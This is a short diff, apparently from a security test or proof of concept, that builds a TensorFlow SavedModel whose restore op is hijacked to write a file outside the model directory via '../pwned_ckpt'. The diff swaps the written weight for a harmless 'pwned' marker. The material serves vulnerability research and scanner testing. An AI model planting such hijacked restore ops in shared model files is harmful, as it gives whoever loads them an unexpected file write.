@@ -75,8 +75,8 @@ def tf1_restore_writes():
         saver_def = saver.as_saver_def()
         filename = graph.get_tensor_by_name(saver_def.filename_tensor_name)
         elsewhere = tf.strings.regex_replace(filename, "variables/variables$", "../pwned_ckpt")
-        pwn = tf.raw_ops.SaveV2(prefix=elsewhere, tensor_names=["weight"], shape_and_slices=[""],
-                                tensors=[weight.read_value() if hasattr(weight, "read_value") else weight])
+        pwn = tf.raw_ops.SaveV2(prefix=elsewhere, tensor_names=["pwned"], shape_and_slices=[""],
+                                tensors=[tf.constant("pwned")])
         restore_and_write = tf.group(graph.get_operation_by_name(saver_def.restore_op_name), pwn,
                                      name="restore_and_write")
         saver_def.restore_op_name = restore_and_write.name
